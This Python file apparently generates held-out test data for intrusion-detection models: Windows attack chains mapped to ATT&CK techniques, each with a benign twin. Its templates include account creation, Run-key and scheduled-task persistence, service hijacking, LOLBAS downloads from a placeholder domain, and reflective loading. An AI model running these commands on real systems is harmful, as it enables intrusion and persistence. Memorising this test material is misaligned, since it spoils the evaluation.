"""Steps of intrusions in order, from the first program to what stays or rises: for choosing and testing models, never for training.

Each step is told alone by a family of training; here they come together, as groups and software of ATT&CK (version 17) combine them.
"""

from __future__ import annotations

from tasks.families.tellings import Row, Telling, chained, file, made, order, script, service, setting, start
from tasks.paths import EXPLORER, POWERSHELL, REPLICA_RIGHT, START_MENU, SYSTEM32
from tasks.scene import GRAVE, HOST, Family

CMD = SYSTEM32 + "cmd.exe"
SERVER = SYSTEM32 + "inetsrv\\w3wp.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\"
_DOCUMENTS = (OFFICE + "WINWORD.EXE", OFFICE + "EXCEL.EXE", OFFICE + "ONENOTE.EXE")
_LATER = (60, 700)  # seconds between steps that a person takes
_OWN_KEY = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_LIBRARY = "HKCU\\Software\\Classes\\CLSID\\{{hex}-0000-4000-8000-0000{hex2}}\\InprocServer32\\(Default)"


# ---------------------------------------------------------------- steps: hostile and harmless
def _shell(parents: object, *commands: str) -> tuple[Telling, Telling]:
    """Return a shell that a program starts, and the same that Explorer starts."""
    return [start(CMD, commands, parents)], [start(CMD, commands, EXPLORER)]


def _told(program: str, hostile: str, harmless: str, parent: str = CMD) -> tuple[Telling, Telling]:
    """Return a program with one order, and with another."""
    return tuple([order(program, text, parent=parent, after=_LATER)] for text in (hostile, harmless))  # type: ignore[return-value]


_NEW_ACCOUNT = _told("net.exe", "user {word4} {hex} /add", "user {word4} /times:all")
_AT_SIGN_IN = _told(
    "reg.exe",
    f"add {_OWN_KEY} /v {{word2}} /d {{loose}}\\{{word3}}.exe /f",
    "add HKCU\\Software\\{word3} /v {word2} /d {loose}\\{word3}.exe /f",
)


def _delegated(options: str) -> Telling:
    return [Row("account", "modify", {"user_name": "{other_user}", "attributes": options})]


def _member(group: object) -> Telling:
    return [Row("group", "member_add", {"group_name": group, "user_name": "{other_user}"}, after=_LATER)]


def _used_right(right: str) -> Telling:
    fields = {"object_dn": "CN=Sites,CN=Configuration,DC=corp,DC=example", "object_type": "site"}
    return [Row("directory", "access", {**fields, "properties": f"%%7688 {{{right}}}"}, after=_LATER)]


# ---------------------------------------------------------------- one line
def _of_system(parent: str) -> list[Telling]:
    """List tellings of a shell of the system's account under a program."""
    texts = ("cmd.exe /c {word}.cmd", "cmd.exe", "cmd.exe /k cd D:\\{word}")
    powershell = ("powershell.exe -File D:\\{word}.ps1", "powershell.exe")
    return [[start(path, text, parent, user="SYSTEM")] for path, text in ((CMD, texts), (POWERSHELL, powershell))]


_FETCHES = (
    ("hh.exe", "https://{domain}/{word}.chm", "D:\\{word}\\{word2}.chm"),
    ("certoc.exe", "-GetCACAPS https://{domain}/{word}", "-GetCACAPS D:\\{word}\\{word2}"),
    ("mavinject.exe", "{number} /INJECTRUNNING D:\\{word}.dll", "{number} /HMODULE=0x{hex} D:\\{word}.dll"),
    ("desktopimgdownldr.exe", "/lockscreenurl:https://{domain}/{word}.jpg /eventName:x", "/eventName:{word}"),
    ("presentationhost.exe", "-debug https://{domain}/{word}.xbap", "-debug D:\\{word}\\{word2}.xbap"),
)
_STARTS = (
    ("msiexec.exe", "/q /i https://{domain}/{word}.msi", "/q /i D:\\{word}\\{word2}.msi"),
    ("forfiles.exe", "/p C:\\Windows\\System32 /m notepad.exe /c D:\\{word}.exe", "/p D:\\{word} /m *.log /d -30"),
    ("pcalua.exe", "-a D:\\{word}.exe", "-m D:\\{word}.exe"),
    ("rundll32.exe", "zipfldr.dll,RouteTheCall D:\\{word}.exe", "zipfldr.dll,DllMain D:\\{word}.exe"),
    ("odbcconf.exe", "/a {REGSVR D:\\{word}.dll}", '/a {CONFIGDSN "{word}"}'),
)


def _orders(rows: tuple[tuple[str, str, str], ...], which: int) -> list[Telling]:
    return [[order(row[0], row[which], parent=(CMD, POWERSHELL, EXPLORER))] for row in rows]


FAMILIES: tuple[Family, ...] = (
    # ------------------------------------------------------------ for choosing models
    # A document's code starts a shell and stays by a Run value (FIN7, G0046: T1204.002, T1059.003, T1547.001).
    chained(
        "mailed_start",
        "T1547.001",
        "execution",
        ("autostart-value", "application-spawns-shell"),
        [_shell(_DOCUMENTS, "cmd.exe /c {word}.cmd", "cmd.exe /c start /b {word}"), _AT_SIGN_IN],
        reaches=HOST,
        split="val_family",
    ),
    # A web server's shell leaves a page and makes an account (HAFNIUM, G0125: T1505.003, T1059.003, T1136.002).
    chained(
        "served_account",
        "T1505.003",
        "persistence",
        ("web-shell-written", "application-spawns-shell", "account-command"),
        [
            _shell(SERVER, "cmd.exe /c {word}.cmd", "cmd.exe /c dir D:\\{word}"),
            (
                [file("C:\\inetpub\\wwwroot\\{word}\\{word2}.aspx", CMD, after=_LATER)],
                [file("C:\\inetpub\\wwwroot\\{word}\\{word2}.png", CMD, after=_LATER)],
            ),
            _NEW_ACCOUNT,
        ],
        reaches=HOST,
        split="val_family",
    ),
    # Somebody opens a service's folder to everybody and lets it start another program (T1222.001, T1574.010, T1574.011).
    chained(
        "weak_service",
        "T1574.011",
        "privilege_escalation",
        ("service-changed", "rights-opened"),
        [
            _told(
                "icacls.exe", "D:\\{word} /grant Everyone:(OI)(CI)F /T", "D:\\{word} /grant {other_user}:(OI)(CI)F /T"
            ),
            _told("sc.exe", "config {word2} binPath= D:\\{word}\\{word3}.exe", "config {word2} start= demand"),
        ],
        reaches=HOST,
        split="val_family",
    ),
    # An account may act for others, and joins the administrators (T1098, T1136, T1550; Kerberos delegation).
    chained(
        "delegated_administrator",
        "T1098",
        "persistence",
        ("account-takeover", "new-privileged-account"),
        [
            (_delegated("AllowedToDelegateTo=cifs/{other_host}"), _delegated("DisplayName={word} {word2}")),
            (_member(("Backup Operators", "Account Operators")), _member(("Event Log Readers", "Printer Users"))),
        ],
        reaches=GRAVE,
        split="val_family",
    ),
    # A hole in a driver or a service makes a shell of the system under a user's program (T1068).
    made(
        "risen_shell",
        "T1068",
        "privilege_escalation",
        ("system-shell",),
        confirmed=_of_system("C:\\Users\\{user}\\AppData\\Local\\{word}\\bin\\{word2}.exe"),
        below=_of_system("{installed}") + _of_system("C:\\Users\\{user}\\AppData\\Local\\{word}\\bin\\setup.exe"),
        reaches=HOST,
        explanations=(),
        names_account=False,
        split="val_family",
    ),
    # ------------------------------------------------------------ for testing models
    # Signed programs fetch, start or inject what they are told (LOLBAS; T1218, T1105).
    made(
        "fetched_by_proxy",
        "T1105",
        "defense_evasion",
        ("launcher-runs-user-file",),
        confirmed=_orders(_FETCHES, 1),
        suspicious=_orders(_STARTS, 1),
        below=_orders(_FETCHES, 2) + _orders(_STARTS, 2),
        reaches=HOST,
        split="test_family",
    ),
    # A program from a download is started by a shell and hides behind a class of the user (T1204.002, T1546.015).
    chained(
        "loader_behind_class",
        "T1546.015",
        "persistence",
        ("class-hijack", "loose-program"),
        [
            ([start("{writable}", "{writable} -q", POWERSHELL)], [start("{installed}", "{installed} -q", POWERSHELL)]),
            (
                [setting(_LIBRARY, "{loose}\\{word}.dll", after=_LATER)],
                [setting(_LIBRARY, "{apps}\\{word}.dll", after=_LATER)],
            ),
        ],
        reaches=HOST,
        split="test_family",
    ),
    # A page's script starts cmd, which comes back by a task (MuddyWater, G0069: T1218.005, T1059.003, T1053.005).
    chained(
        "page_to_task",
        "T1053.005",
        "execution",
        ("launcher-starts-shell", "task-command"),
        [
            (
                [start(CMD, "cmd.exe /c {word}.cmd", SYSTEM32 + "mshta.exe")],
                [start(CMD, "cmd.exe /c {word}.cmd", EXPLORER)],
            ),
            _told(
                "schtasks.exe",
                "/create /tn {word2} /tr D:\\{word3}.exe /sc onlogon /ru SYSTEM",
                "/create /tn {word2} /tr D:\\{word3}.exe /sc onlogon /ru {user}",
            ),
        ],
        work="schtasks.exe",
        reaches=HOST,
        split="test_family",
    ),
    # A service from an odd place, whose PowerShell loads code from memory and links itself at sign-in (Cobalt Strike, S0154: T1543.003, T1620).
    chained(
        "service_to_memory",
        "T1543.003",
        "persistence",
        ("odd-service", "offensive-script", "startup-folder"),
        [
            ([service("D:\\{word2}\\{word3}.exe")], [service("C:\\Program Files\\{word2}\\{word3}.exe")]),
            (
                [
                    script(
                        "[Reflection.Assembly]::Load($b)",
                        "$p = [Win32]::VirtualAlloc(0, 4096, 0x3000, 0x40)",
                        after=_LATER,
                    )
                ],
                [
                    script(
                        "[Reflection.Assembly]::GetEntryAssembly()", "$p = [Win32]::GetModuleHandle($n)", after=_LATER
                    )
                ],
            ),
            (
                [
                    file(
                        "C:\\ProgramData\\" + START_MENU + "Startup\\{word4}.lnk",
                        "D:\\{word2}\\{word3}.exe",
                        after=_LATER,
                    )
                ],
                [
                    file(
                        "C:\\ProgramData\\" + START_MENU + "{word5}\\{word4}.lnk",
                        "D:\\{word2}\\{word3}.exe",
                        after=_LATER,
                    )
                ],
            ),
        ],
        work="powershell.exe",
        reaches=HOST,
        split="test_family",
    ),
    # A machine is weakened and poses as a domain controller (T1207; DCShadow).
    chained(
        "posing_controller",
        "T1207",
        "persistence",
        ("replica-rights", "account-takeover"),
        [
            (
                [Row("account", "modify", {"user_name": "{other_host}$", "attributes": "set: Trusted for delegation"})],
                [
                    Row(
                        "account",
                        "modify",
                        {"user_name": "{other_host}$", "attributes": "set: Password does not expire"},
                    )
                ],
            )
        ],
        ending=(_used_right(REPLICA_RIGHT), _used_right("00299570-246d-11d0-a768-00aa006e0529")),
        reaches=GRAVE,
        split="test_family",
    ),
)
